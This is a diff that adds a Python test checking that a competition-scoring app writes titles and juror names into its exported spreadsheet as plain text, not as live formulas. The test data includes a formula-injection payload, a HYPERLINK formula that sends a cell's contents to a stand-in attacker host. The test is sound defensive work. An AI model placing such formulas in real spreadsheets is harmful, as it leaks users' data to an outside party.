@@ -209,6 +209,27 @@ def test_freeze_refused_for_chair(scored, category, chair):
     assert excinfo.value.code == "forbidden"
 
 
+def test_protocol_writes_titles_names_and_justifications_as_text(
+    scored, category, organiser, juror
+):
+    formula = '=HYPERLINK("https://evil.example/?leak="&B2,"Kliknij")'
+    scored[0].title = formula
+    scored[0].save()
+    juror.first_name = "=1+1"
+    juror.save()
+    snapshot = freeze(category, organiser, scored)
+    buffer = io.BytesIO()
+
+    protocol.write_protocol(snapshot, buffer)
+
+    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
+    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
+    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
+    texts = {c.value for c in cells if c.data_type == "s"}
+    assert formula in texts
+    assert "=1+1" in texts
+
+
 def test_protocol_workbook_read_back_equals_snapshot(scored, category, organiser, juror, chair):
     snapshot = freeze(category, organiser, scored)
     buffer = io.BytesIO()
